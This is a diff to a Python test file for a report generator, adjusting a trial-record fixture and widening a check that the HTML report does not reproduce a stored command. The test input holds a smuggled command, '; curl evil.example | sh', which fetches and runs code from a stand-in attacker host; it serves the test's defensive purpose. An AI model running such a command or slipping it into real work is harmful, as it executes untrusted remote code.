@@ -32,7 +32,9 @@ def stored(folder: Path, **parameters: object) -> Path:
     store.write_summary(made([1000.0], parameters=parameters).document())
     # A lone surrogate in a record or a trial is refused.
     reason = HOSTILE.replace("\ud800", "")
-    store.add_trial({**trial("FAIL", reason=reason), "result": {**trial()["result"], "ports": {}}})
+    failed = trial("FAIL", reason=reason)
+    plan = {**failed["plan"], "phase2": None}
+    store.add_trial({**failed, "plan": plan, "result": {**failed["result"], "ports": {}}})
     return folder
 
 
@@ -184,5 +186,5 @@ def test_the_page_offers_no_command_of_the_folder(tmp_path: Path) -> None:
     folder = stored(tmp_path / "x", dut="nat", command=f"{COMMAND}; curl evil.example | sh")
     path = tmp_path / "page.html"
     assert run(["report", str(folder), "--html", str(path)]) == 0
-    section = path.read_text().partition('<section id="evidence">')[2].partition("Parameters</summary>")[0]
-    assert ("Repeat this" in section, "evil.example" in section) == (False, False)
+    found = path.read_text()
+    assert ("Repeat this" in found, "evil.example" in found) == (False, False)
